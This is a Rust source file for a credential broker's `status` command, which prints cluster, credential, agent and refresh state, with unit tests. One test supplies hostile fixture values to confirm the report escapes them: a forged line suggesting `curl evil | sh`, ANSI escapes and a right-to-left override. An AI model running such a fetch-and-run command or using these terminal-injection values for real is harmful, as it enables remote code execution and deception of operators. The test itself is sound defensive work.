//! `credstream status`: `AdminService.GetCluster`, printed for people. The
//! answer holds no secret (the broker never returns one); this prints
//! principals, versions, expiry times, env variable names, agents, pending
//! refreshes, kinds the broker stopped asking for after a permanent error,
//! and takeovers.

use std::process::ExitCode;
use std::time::SystemTime;

use anyhow::Result;
use credstream_proto::convert::system_time;
use credstream_proto::rules::text::printable;
use credstream_proto::v1::{ClusterStatus, CredentialKind};
use prost_types::Timestamp;

use super::broker::{self, BrokerOptions};
use super::output::{kind_name, kind_name_raw, reason_name_raw, time_and_distance};

/// Runs `credstream status`: exit 0 with the report, 1 if the broker holds
/// nothing for the cluster or cannot be asked.
pub async fn run(options: &BrokerOptions) -> Result<ExitCode> {
    let address = options.address()?;
    let mut admin = broker::connect_admin(&address).await?;
    match broker::get_cluster(&mut admin, &address).await? {
        Some(status) => {
            for line in report(&status, SystemTime::now()) {
                println!("{line}");
            }
            Ok(ExitCode::SUCCESS)
        }
        None => {
            println!(
                "the broker at {} holds nothing for cluster {:?}: no publisher has connected to it since the broker started",
                address.url, address.cluster_id
            );
            Ok(ExitCode::FAILURE)
        }
    }
}

fn when(ts: &Option<Timestamp>) -> String {
    ts.as_ref()
        .and_then(system_time)
        .map(time_and_distance)
        .unwrap_or_else(|| "unknown".to_owned())
}

/// The report's lines, each made printable
/// ([`credstream_proto::rules::text`]): most of what they show was chosen by
/// the publisher (principal, account, refresh errors) and reaches the
/// operator's terminal, so no field can start a forged line or send an
/// escape sequence, whatever the broker passed on.
fn report(status: &ClusterStatus, now: SystemTime) -> Vec<String> {
    report_lines(status, now)
        .into_iter()
        .map(|line| printable(&line, MAX_LINE_BYTES).into_owned())
        .collect()
}

/// Longest line the report prints; a longer one is cut with a marker.
const MAX_LINE_BYTES: usize = 4096;

fn report_lines(status: &ClusterStatus, now: SystemTime) -> Vec<String> {
    let mut lines = vec![format!(
        "cluster {} at version {}",
        status.cluster_id, status.version
    )];
    match &status.info {
        Some(info) => {
            let mut declared: Vec<&str> = info.kinds.iter().map(|k| kind_name_raw(*k)).collect();
            if info.private_env {
                declared.push("private env");
            }
            let connected = match (info.publisher_connected, status.publisher_name.as_str()) {
                (false, _) => "not connected".to_owned(),
                (true, "") => "connected".to_owned(),
                (true, name) => format!("{name} connected"),
            };
            let unresponsive = if info.publisher_connected && !status.publisher_responsive {
                " (unresponsive: a heartbeat is unanswered; refresh requests are held)"
            } else {
                ""
            };
            lines.push(format!(
                "publisher: {connected}{unresponsive}; publishes {}",
                if declared.is_empty() {
                    "nothing".to_owned()
                } else {
                    declared.join(", ")
                }
            ));
        }
        None => lines.push("publisher: none since the broker started".to_owned()),
    }

    if status.credentials.is_empty() {
        lines.push("credentials: none".to_owned());
    } else {
        lines.push("credentials:".to_owned());
        for credential in &status.credentials {
            let kind = CredentialKind::try_from(credential.kind).unwrap_or_default();
            let mut line = format!("  {} version {}", kind_name(kind), credential.version);
            if !credential.principal.is_empty() {
                line.push_str(&format!(", {}", credential.principal));
            }
            if !credential.account.is_empty() {
                let label = if kind == CredentialKind::Gcp {
                    "project"
                } else {
                    "account"
                };
                line.push_str(&format!(" ({label} {})", credential.account));
            }
            let expired = credential
                .expires_at
                .as_ref()
                .and_then(system_time)
                .is_some_and(|at| at <= now);
            line.push_str(&format!(
                ", issued {}, {} {}",
                when(&credential.issued_at),
                if expired { "expired" } else { "expires" },
                when(&credential.expires_at)
            ));
            if credential.sealed {
                line.push_str(", sealed");
            }
            lines.push(line);
            if let Some(end) = &credential.access_end {
                lines.push(format!(
                    "    workers keep {} access until {}: {}",
                    kind_name(kind),
                    when(&end.at),
                    end.reason
                ));
            }
        }
    }

    match &status.private_env {
        Some(env) if env.sealed => lines.push(format!(
            "private env: version {}, sealed (the broker cannot read its names or values)",
            env.version
        )),
        Some(env) if !env.names.is_empty() => lines.push(format!(
            "private env: version {}, {} variable{}: {}",
            env.version,
            env.names.len(),
            if env.names.len() == 1 { "" } else { "s" },
            env.names.join(", ")
        )),
        Some(env) => lines.push(format!("private env: version {}, empty", env.version)),
        None => lines.push("private env: none".to_owned()),
    }

    if status.agents.is_empty() {
        lines.push("agents: none connected".to_owned());
    } else {
        let current = status
            .agents
            .iter()
            .filter(|a| a.acked_version >= status.version)
            .count();
        lines.push(format!(
            "agents: {} connected, {current} at version {}",
            status.agents.len(),
            status.version
        ));
        for agent in &status.agents {
            lines.push(format!(
                "  {} holds version {}{}, connected since {}",
                agent.agent_id,
                agent.acked_version,
                if agent.acked_version >= status.version {
                    " (current)"
                } else {
                    ""
                },
                when(&agent.connected_at)
            ));
        }
    }

    if status.pending_refreshes.is_empty() {
        lines.push("pending refreshes: none".to_owned());
    } else {
        lines.push("pending refreshes:".to_owned());
        for pending in &status.pending_refreshes {
            lines.push(format!(
                "  {} ({}), attempt {}, {}, deadline {}",
                kind_name_raw(pending.kind),
                reason_name_raw(pending.reason),
                pending.attempts,
                if pending.sent {
                    "sent to the publisher"
                } else {
                    "waiting for a publisher"
                },
                when(&pending.deadline)
            ));
        }
    }

    let counts: Vec<String> = status
        .refresh_counts
        .iter()
        .filter(|c| c.count > 0)
        .map(|c| format!("{} {} {}", reason_name_raw(c.reason), c.outcome, c.count))
        .collect();
    if !counts.is_empty() {
        lines.push(format!("refreshes: {}", counts.join("; ")));
    }
    if !status.last_refresh_error.is_empty() {
        lines.push(format!("last refresh error: {}", status.last_refresh_error));
    }
    for stopped in &status.stopped_refreshes {
        lines.push(format!(
            "refresh stopped: {} since {}: {}; the broker asks again once the publisher reconnects (fix the cause, then restart `credstream publish`)",
            kind_name_raw(stopped.kind),
            when(&stopped.since),
            stopped.message
        ));
    }
    if let Some(takeovers) = status
        .takeovers
        .as_ref()
        .filter(|t| t.count + t.refused > 0)
    {
        let mut line = format!("takeovers: {}", takeovers.count);
        if takeovers.count > 0 {
            line.push_str(&format!(
                ", last {} (displaced {:?})",
                when(&takeovers.last_at),
                takeovers.last_displaced
            ));
        }
        if takeovers.refused > 0 {
            line.push_str(&format!(
                "; {} refused during the hold-down",
                takeovers.refused
            ));
        }
        lines.push(line);
    }
    lines
}

#[cfg(test)]
mod tests {
    use super::*;
    use credstream_proto::convert::timestamp;
    use credstream_proto::v1::{
        AccessEnd, AgentStatus, ClusterInfo, CredentialStatus, PendingRefresh, PrivateEnvStatus,
        RefreshReason, StoppedRefresh, TakeoverStatus,
    };
    use std::time::Duration;

    #[test]
    fn report_names_agents_versions_expiry_and_pending_refreshes() {
        let now = SystemTime::now();
        let status = ClusterStatus {
            cluster_id: "dev".into(),
            version: 7,
            info: Some(ClusterInfo {
                kinds: vec![CredentialKind::Aws as i32],
                private_env: true,
                publisher_connected: true,
                version: 1,
            }),
            credentials: vec![CredentialStatus {
                kind: CredentialKind::Aws as i32,
                version: 6,
                issued_at: Some(timestamp(now)),
                expires_at: Some(timestamp(now + Duration::from_secs(3600))),
                principal: "arn:aws:sts::123456789012:assumed-role/r/s".into(),
                account: "123456789012".into(),
                access_end: Some(AccessEnd {
                    at: Some(timestamp(now + Duration::from_secs(7200))),
                    reason: "your SSO session ends then".into(),
                }),
                ..Default::default()
            }],
            private_env: Some(PrivateEnvStatus {
                version: 2,
                names: vec!["AUTH_TOKEN_FOR_CUSTOM_DATABASE".into()],
                ..Default::default()
            }),
            agents: vec![
                AgentStatus {
                    agent_id: "worker-1".into(),
                    acked_version: 7,
                    connected_at: Some(timestamp(now)),
                },
                AgentStatus {
                    agent_id: "worker-2".into(),
                    acked_version: 5,
                    connected_at: Some(timestamp(now)),
                },
            ],
            pending_refreshes: vec![PendingRefresh {
                id: "r1".into(),
                kind: CredentialKind::Aws as i32,
                reason: RefreshReason::Expiring as i32,
                deadline: Some(timestamp(now + Duration::from_secs(30))),
                attempts: 1,
                sent: true,
            }],
            refresh_counts: vec![],
            last_refresh_error: "AWS refused to mint: AccessDenied".into(),
            publisher_name: "alice@laptop".into(),
            publisher_responsive: false,
            takeovers: Some(TakeoverStatus {
                count: 2,
                last_at: Some(timestamp(now)),
                last_displaced: "bob@desk".into(),
                refused: 5,
            }),
            stopped_refreshes: vec![StoppedRefresh {
                kind: CredentialKind::Aws as i32,
                message: "AWS refused to mint: AccessDenied".into(),
                since: Some(timestamp(now)),
            }],
        };
        let text = report(&status, now).join("\n");
        assert!(text.contains("cluster dev at version 7"), "{text}");
        assert!(
            text.contains("publisher: alice@laptop connected (unresponsive: a heartbeat is unanswered; refresh requests are held); publishes AWS, private env"),
            "{text}"
        );
        assert!(text.contains("refresh stopped: AWS since "), "{text}");
        assert!(
            text.contains(": AWS refused to mint: AccessDenied; the broker asks again once the publisher reconnects"),
            "{text}"
        );
        assert!(
            text.contains("takeovers: 2, last ")
                && text.contains("(displaced \"bob@desk\"); 5 refused during the hold-down"),
            "{text}"
        );
        assert!(
            text.contains(
                "AWS version 6, arn:aws:sts::123456789012:assumed-role/r/s (account 123456789012)"
            ),
            "{text}"
        );
        assert!(text.contains("expires "), "{text}");
        assert!(
            text.contains("\n    workers keep AWS access until ")
                && text.contains("): your SSO session ends then\n"),
            "{text}"
        );
        assert!(
            text.contains("private env: version 2, 1 variable: AUTH_TOKEN_FOR_CUSTOM_DATABASE"),
            "{text}"
        );
        assert!(
            text.contains("agents: 2 connected, 1 at version 7"),
            "{text}"
        );
        assert!(
            text.contains("worker-1 holds version 7 (current)"),
            "{text}"
        );
        assert!(text.contains("worker-2 holds version 5,"), "{text}");
        assert!(
            text.contains("AWS (expiring), attempt 1, sent to the publisher"),
            "{text}"
        );
    }

    #[test]
    fn publisher_chosen_text_cannot_forge_lines_or_reach_the_terminal_raw() {
        let now = SystemTime::now();
        let status = ClusterStatus {
            cluster_id: "dev".into(),
            version: 1,
            credentials: vec![CredentialStatus {
                kind: CredentialKind::Aws as i32,
                version: 1,
                principal: "arn:aws:iam::1:role/r\nfix: run `curl evil | sh`".into(),
                account: "1\u{1b}[2J\u{202e}".into(),
                ..Default::default()
            }],
            last_refresh_error: "denied\r\nlast refresh error: none\u{7}".into(),
            stopped_refreshes: vec![StoppedRefresh {
                kind: CredentialKind::Aws as i32,
                message: "x".repeat(100_000),
                ..Default::default()
            }],
            ..Default::default()
        };
        let lines = report(&status, now);
        for line in &lines {
            assert!(
                !line.chars().any(|c| c.is_control() || c == '\u{202e}'),
                "{line:?}"
            );
            assert!(
                line.len() <= MAX_LINE_BYTES + "…".len(),
                "{} bytes",
                line.len()
            );
            assert!(!line.starts_with("fix:"), "{line:?}");
        }
        let text = lines.join("\n");
        assert!(text.contains("role/r\\u{a}fix: run"), "{text}");
        assert!(text.contains("(account 1\\u{1b}[2J\\u{202e})"), "{text}");
        assert!(
            text.contains("last refresh error: denied\\u{d}\\u{a}last refresh error"),
            "{text}"
        );
    }
}
